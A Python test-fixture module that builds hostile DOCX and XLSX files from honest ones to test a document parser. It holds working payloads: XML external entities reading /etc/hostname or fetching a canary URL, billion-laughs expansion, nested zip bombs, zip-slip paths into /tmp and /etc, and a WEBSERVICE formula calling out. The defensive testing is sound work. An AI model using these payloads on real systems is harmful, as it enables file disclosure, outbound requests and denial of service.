"""Word and Excel files as an enemy would send them, made from honest ones."""

import io
import zipfile
from collections.abc import Callable, Iterable

Package = Callable[[bytes, str], bytes]
"""An honest file and the address of a canary in, a hostile file out."""

WORD = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MEGABYTE = 1024 * 1024


def parts_of(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def zipped(parts: dict[str, bytes], more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in (*parts.items(), *more):
            package.writestr(name, content)
    return target.getvalue()


def changed(package: bytes, **parts: bytes) -> bytes:
    """Parts replaced or added; “__” in a name stands for “/” and “_dot_” for “.”."""
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return zipped(parts_of(package) | named)


def with_long_part(package: bytes, name: str, head: bytes, piece: bytes, times: int, tail: bytes) -> bytes:
    """A part of any length, packed piece by piece."""
    target = io.BytesIO()
    kept = {other: content for other, content in parts_of(package).items() if other != name}
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as written:
        for other, content in kept.items():
            written.writestr(other, content)
        with written.open(name, "w", force_zip64=True) as part:
            part.write(head)
            for _ in range(times):
                part.write(piece)
            part.write(tail)
    return target.getvalue()


def lying(package: bytes, name: str, size: int) -> bytes:
    """The zip's directory claims that a part is that small."""
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        true = opened.getinfo(name).file_size
    return package.replace(true.to_bytes(4, "little"), size.to_bytes(4, "little"))


def word(body: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'.encode()


def sheet(rows: str, doctype: str = "", more: str = "") -> bytes:
    inside = f"<sheetData>{rows}</sheetData>{more}"
    return f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_X}">{inside}</worksheet>'.encode()


def run(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _long_word(piece: bytes, times: int, body: str) -> Package:
    """The place of the pieces in the body is marked with an X."""
    head, _, tail = word(body).partition(b"X")
    return lambda honest, canary: with_long_part(honest, WORD, head, piece, times, tail)


def cell(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">{}]>'.format(
    "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
)
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>'
_OLE = bytes.fromhex("D0CF11E0A1B11AE1")
_RUN = b"<w:r><w:t>x</w:t></w:r>"
_CELLS = b"".join(b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' for _ in range(1000))


def _entity(where: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{where}">]>'


def _parameter_entity(where: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{where}"> %e;]>'


def _word(body: str, doctype: str = "") -> Package:
    return lambda honest, canary: changed(honest, word__document_dot_xml=word(body, doctype.replace("CANARY", canary)))


def _sheet(rows: str, doctype: str = "", more: str = "") -> Package:
    return lambda honest, canary: zipped(
        parts_of(honest) | {SHEET: sheet(rows, doctype.replace("CANARY", canary), more)}
    )


def _beside(rows: str, more: str = "") -> Package:
    """Rows and facts beside those of the honest sheet, so that a reader comes to them."""

    def made(honest: bytes, canary: str) -> bytes:
        parts = parts_of(honest)
        head, _, tail = parts[SHEET].partition(b"</sheetData>")
        inside = f"{rows}</sheetData>{more}".replace("CANARY", canary).encode()
        return zipped(parts | {SHEET: head + inside + tail})

    return made


def _many_parts(honest: bytes, canary: str) -> bytes:
    return zipped(parts_of(honest), ((f"x/{number}.xml", b"<x/>") for number in range(100_000)))


def _nested_zip(honest: bytes, canary: str) -> bytes:
    inside = zipped({"null": bytes(50 * _MEGABYTE)})
    for _ in range(5):
        inside = zipped({f"{number}.zip": inside for number in range(10)})
    return zipped(parts_of(honest) | {"word/embeddings/a.zip": inside})


def _slip(honest: bytes, canary: str) -> bytes:
    return zipped(parts_of(honest) | {"../../../../tmp/hjemmetilsyn-slip": b"x", "/etc/hjemmetilsyn-slip": b"x"})


def _encrypted(honest: bytes, canary: str) -> bytes:
    """The bit that says so, in every entry of the directory."""
    marked = bytearray(honest)
    at = marked.find(b"PK\x01\x02")
    while at >= 0:
        marked[at + 8] |= 1
        at = marked.find(b"PK\x01\x02", at + 4)
    return bytes(marked)


def _utf16(honest: bytes, canary: str) -> bytes:
    """A DTD in an encoding in which nobody looks for one."""
    text = word(run("&e;"), _entity(canary)).decode().replace('"1.0"', '"1.0" encoding="UTF-16"', 1)
    return changed(honest, word__document_dot_xml=text.encode("utf-16"))


def _outside(kind: str) -> Package:
    def made(honest: bytes, canary: str) -> bytes:
        parts = parts_of(honest)
        link = (
            f'<Relationship Id="rIdX" TargetMode="External" Target="{canary}" '
            f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
        )
        name = next(name for name in parts if name in ("word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"))
        return zipped(parts | {name: parts[name].replace(b"</Relationships>", link.encode())})

    return made


def _deep(prefix: str) -> str:
    return f"<{prefix}x>" * 100_000 + f"</{prefix}x>" * 100_000


EITHER: dict[str, Package] = {
    "a hundred thousand parts": _many_parts,
    "zips within zips": _nested_zip,
    "names that climb out of the folder": _slip,
    "said to be encrypted": _encrypted,
    "a template from the network": _outside("attachedTemplate"),
    "a picture from the network": _outside("image"),
    "cut in half": lambda honest, canary: honest[: len(honest) // 2],
    "the end cut off": lambda honest, canary: honest[:-30],
    "only its first bytes": lambda honest, canary: honest[:4],
    "NUL bytes all over": lambda honest, canary: honest[:200] + bytes(5000) + honest[200:],
    "no parts": lambda honest, canary: zipped({}),
}

DOCX: dict[str, Package] = EITHER | {
    "two million runs": _long_word(_RUN * 1000, 2000, "<w:p>X</w:p>"),
    "a text of 500 MB": _long_word(b"x" * _MEGABYTE, 500, run("X")),
    "a part of 2 GB beside the text": lambda honest, canary: with_long_part(
        honest, "word/media/a.png", b"\x89PNG", bytes(_MEGABYTE), 2000, b""
    ),
    "a long part that says it is short": lambda honest, canary: lying(
        _long_word(b"x" * _MEGABYTE, 300, run("X"))(honest, canary), WORD, 1000
    ),
    "billion laughs": _word(run("&j;"), _LAUGHS),
    "one long entity many times": _word(run("&a;" * 50_000), _QUADRATIC),
    "an entity from the disk": _word(run("&e;"), _entity("file:///etc/hostname")),
    "an entity from the network": _word(run("&e;"), _entity("CANARY")),
    "a parameter entity from the disk": _word(run("x"), _parameter_entity("file:///etc/hostname")),
    "a parameter entity from the network": _word(run("x"), _parameter_entity("CANARY")),
    "a DTD from the network": _word(run("x"), '<!DOCTYPE x SYSTEM "CANARY">'),
    "a DTD hidden in UTF-16": _utf16,
    "a hundred thousand levels": _word(_deep("w:")),
    "a million attributes": _word("<w:p " + " ".join(f'a{n}="x"' for n in range(300_000)) + "/>"),
    "macros": lambda honest, canary: zipped(parts_of(honest) | {"word/vbaProject.bin": _OLE}),
}

XLSX: dict[str, Package] = EITHER | {
    "a cell in the last corner": _beside(
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    ),
    "a sheet of 1 GB": lambda honest, canary: with_long_part(
        honest, SHEET, sheet("X").partition(b"X")[0], _CELLS, 20_000, sheet("X").partition(b"X")[2]
    ),
    "all cells merged into one": _beside("", more='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "a thousand overlapping merges": _beside(
        "", more="<mergeCells>" + '<mergeCell ref="A1:ZZ9999"/>' * 1000 + "</mergeCells>"
    ),
    "a rule for ten thousand ranges": _beside(
        "",
        more='<dataValidations><dataValidation type="list" sqref="'
        + " ".join(f"A{n}:XFD{n}" for n in range(1, 10_000))
        + '"><formula1>"a"</formula1></dataValidation></dataValidations>',
    ),
    "a row number beyond all rows": _beside(f'<row r="{"9" * 300}"><c r="A{"9" * 300}"><v>1</v></c></row>'),
    "a column beyond all columns": _beside(f'<row r="1"><c r="{"Z" * 300}1"><v>1</v></c></row>'),
    "a number of a million digits": _beside(f'<row r="1"><c r="A1"><v>{"9" * 1_000_000}</v></c></row>'),
    "a formula that fetches": _beside('<row r="1"><c r="A1"><f>WEBSERVICE("CANARY")</f><v>x</v></c></row>'),
    "billion laughs": _sheet(cell("&j;"), _LAUGHS),
    "one long entity many times": _sheet(cell("&a;" * 50_000), _QUADRATIC),
    "an entity from the disk": _sheet(cell("&e;"), _entity("file:///etc/hostname")),
    "an entity from the network": _sheet(cell("&e;"), _entity("CANARY")),
    "a parameter entity from the network": _sheet(cell("x"), _parameter_entity("CANARY")),
    "a hundred thousand levels": _sheet(_deep("")),
    "a long shared text many times": lambda honest, canary: zipped(
        parts_of(honest)
        | {
            "xl/sharedStrings.xml": f'<sst xmlns="{_X}"><si><t>{"x" * _MEGABYTE}</t></si></sst>'.encode(),
            SHEET: sheet("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 10_000))),
        }
    ),
}
